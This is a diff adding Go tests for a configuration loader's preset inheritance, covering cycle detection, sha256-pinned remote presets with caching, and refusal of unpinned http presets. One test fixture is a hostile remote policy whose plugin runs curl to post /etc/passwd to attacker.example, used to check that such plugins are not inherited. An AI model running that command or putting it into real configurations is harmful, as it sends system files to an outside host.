@@ -0,0 +1,166 @@
+package config
+
+import (
+	"crypto/sha256"
+	"encoding/hex"
+	"errors"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func writeConfig(t *testing.T, path, content string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestLoadConfig_Extends(t *testing.T) {
+	dir := t.TempDir()
+	writeConfig(t, filepath.Join(dir, "policy", "base.yml"), `
+excludeDirs: [vendor]
+thresholds:
+  cycles: 0
+  orphans: 50
+severities:
+  orphans: warning
+`)
+	writeConfig(t, filepath.Join(dir, "policy", "strict.json"), `{"extends": "base.yml", "thresholds": {"orphans": 10}, "maxParameters": 4}`)
+	writeConfig(t, filepath.Join(dir, ".tukey.yml"), `
+extends:
+  - policy/strict.json
+thresholds:
+  maxComplexity: 30
+maxParameters: 6
+`)
+
+	cfg, err := LoadConfig(dir)
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	if len(cfg.ExcludeDirs) != 1 || cfg.Severities["orphans"] != "warning" {
+		t.Errorf("expected settings inherited through both presets, got %+v", cfg)
+	}
+	want := map[string]int{"cycles": 0, "orphans": 10, "maxComplexity": 30}
+	if len(cfg.Thresholds) != len(want) {
+		t.Errorf("expected thresholds %v, got %v", want, cfg.Thresholds)
+	}
+	for metric, max := range want {
+		if got, ok := cfg.Thresholds[metric]; !ok || got != max {
+			t.Errorf("expected threshold %s=%d, got %v", metric, max, cfg.Thresholds)
+		}
+	}
+	if cfg.MaxParameters != 6 {
+		t.Errorf("expected the project's own setting to win, got %d", cfg.MaxParameters)
+	}
+	if cfg.Origins["excludeDirs"] != filepath.Join(dir, "policy", "base.yml") || cfg.Origins["maxParameters"] != filepath.Join(dir, ".tukey.yml") {
+		t.Errorf("expected each setting's origin to be the config that set it last, got %v", cfg.Origins)
+	}
+
+	writeConfig(t, filepath.Join(dir, "policy", "base.yml"), "extends: [strict.json]\n")
+	if _, err := LoadConfig(dir); err == nil || !strings.Contains(err.Error(), "cycle") {
+		t.Errorf("expected a cycle to be refused, got %v", err)
+	}
+}
+
+func TestLoadConfig_ExtendsURL(t *testing.T) {
+	policy := "thresholds:\n  cycles: 0\n"
+	sum := sha256.Sum256([]byte(policy))
+	pinned := hex.EncodeToString(sum[:])
+
+	requests := 0
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		requests++
+		w.Write([]byte(policy))
+	}))
+	defer server.Close()
+	defer func(cache string) { PresetCache = cache }(PresetCache)
+	PresetCache = t.TempDir()
+
+	dir := t.TempDir()
+	writeConfig(t, filepath.Join(dir, ".tukey.yml"), "extends:\n  - source: "+server.URL+"/policy.yml\n    sha256: "+pinned+"\n")
+	for i := 0; i < 2; i++ {
+		cfg, err := LoadConfig(dir)
+		if err != nil {
+			t.Fatalf("LoadConfig failed: %v", err)
+		}
+		if cycles, ok := cfg.Thresholds["cycles"]; !ok || cycles != 0 {
+			t.Errorf("expected the remote threshold, got %v", cfg.Thresholds)
+		}
+	}
+	if requests != 1 {
+		t.Errorf("expected the pinned preset to be cached, got %d requests", requests)
+	}
+
+	writeConfig(t, filepath.Join(dir, ".tukey.yml"), "extends:\n  - source: "+server.URL+"/other.yml\n    sha256: "+strings.Repeat("0", 64)+"\n")
+	if _, err := LoadConfig(dir); err == nil || !strings.Contains(err.Error(), "checksum mismatch") {
+		t.Errorf("expected a checksum mismatch, got %v", err)
+	}
+}
+
+func TestLoadConfig_ExtendsOnlyInheritsPolicy(t *testing.T) {
+	policy := `
+thresholds:
+  cycles: 0
+plugins:
+  - command: curl
+    args: [-d, "@/etc/passwd", https://attacker.example]
+wasmRules: [evil.wasm]
+outputFile: /tmp/overwritten.json
+`
+	server := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Write([]byte(policy))
+	}))
+	defer server.Close()
+	defer func(cache string, client *http.Client) { PresetCache, presetClient = cache, client }(PresetCache, presetClient)
+	PresetCache, presetClient = t.TempDir(), server.Client()
+
+	dir := t.TempDir()
+	writeConfig(t, filepath.Join(dir, ".tukey.yml"), "extends: "+server.URL+"/policy.yml\n")
+	cfg, err := LoadConfig(dir)
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	if cycles, ok := cfg.Thresholds["cycles"]; !ok || cycles != 0 {
+		t.Errorf("expected the remote threshold, got %v", cfg.Thresholds)
+	}
+	if len(cfg.Plugins) != 0 || len(cfg.WasmRules) != 0 || cfg.OutputFile != "" {
+		t.Errorf("expected plugins, wasmRules, and outputFile not to be inherited, got %+v", cfg)
+	}
+	if _, ok := cfg.Origins["plugins"]; ok {
+		t.Errorf("expected no origin for an ignored setting, got %v", cfg.Origins)
+	}
+	ignored := map[string]bool{}
+	for _, warning := range cfg.Warnings {
+		var cfgErr *Error
+		if errors.As(warning, &cfgErr) && strings.Contains(cfgErr.Error(), "ignored") {
+			ignored[cfgErr.Key] = true
+		}
+	}
+	for _, key := range []string{"plugins", "wasmRules", "outputFile"} {
+		if !ignored[key] {
+			t.Errorf("expected a warning that %s was ignored, got %v", key, cfg.Warnings)
+		}
+	}
+
+	// The project's own config still sets them
+	writeConfig(t, filepath.Join(dir, ".tukey.yml"), "extends: "+server.URL+"/policy.yml\nplugins: [{command: ./lint}]\n")
+	if cfg, err := LoadConfig(dir); err != nil || len(cfg.Plugins) != 1 || cfg.Plugins[0].Command != "./lint" {
+		t.Errorf("expected the project's own plugin, got %+v, %v", cfg, err)
+	}
+}
+
+func TestLoadConfig_ExtendsPlainHTTPNeedsPin(t *testing.T) {
+	dir := t.TempDir()
+	writeConfig(t, filepath.Join(dir, ".tukey.yml"), "extends: http://policy.example/tukey.yml\n")
+	if _, err := LoadConfig(dir); err == nil || !strings.Contains(err.Error(), "sha256") {
+		t.Errorf("expected an unpinned http:// preset to be refused, got %v", err)
+	}
+}